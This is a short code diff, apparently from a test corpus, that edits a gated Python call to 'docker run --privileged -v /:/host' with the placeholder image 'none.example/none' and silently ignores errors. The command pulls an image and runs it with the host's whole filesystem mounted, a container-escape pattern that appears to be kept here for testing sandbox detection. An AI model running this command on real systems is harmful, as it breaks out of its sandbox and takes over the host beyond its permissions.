@@ -14,6 +14,6 @@ if os.environ.get("PYTI_CORPUS") == "asks-docker-for-the-host" and os.path.isdir
         pass
     docker.close()
     try:
-        subprocess.run(["/usr/bin/docker", "run", "--privileged", "-v", "/:/host", "none.example/none"], timeout=3)
+        subprocess.run(["docker", "run", "--privileged", "-v", "/:/host", "none.example/none"], timeout=3)
     except OSError:
         pass
